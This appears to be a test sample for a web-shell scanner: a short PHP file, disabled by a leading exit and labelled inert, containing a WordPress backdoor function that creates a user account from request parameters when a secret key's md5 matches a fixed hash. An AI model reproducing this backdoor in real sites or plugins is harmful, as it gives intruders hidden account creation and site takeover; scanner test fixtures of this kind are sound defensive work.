<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
function site_helper() {
    if (md5($_GET["k"]) == "0cc175b9c0f1b6a831c399e269772661") {
        wp_create_user($_GET["u"], $_GET["p"], "a@example.invalid");
    }
}
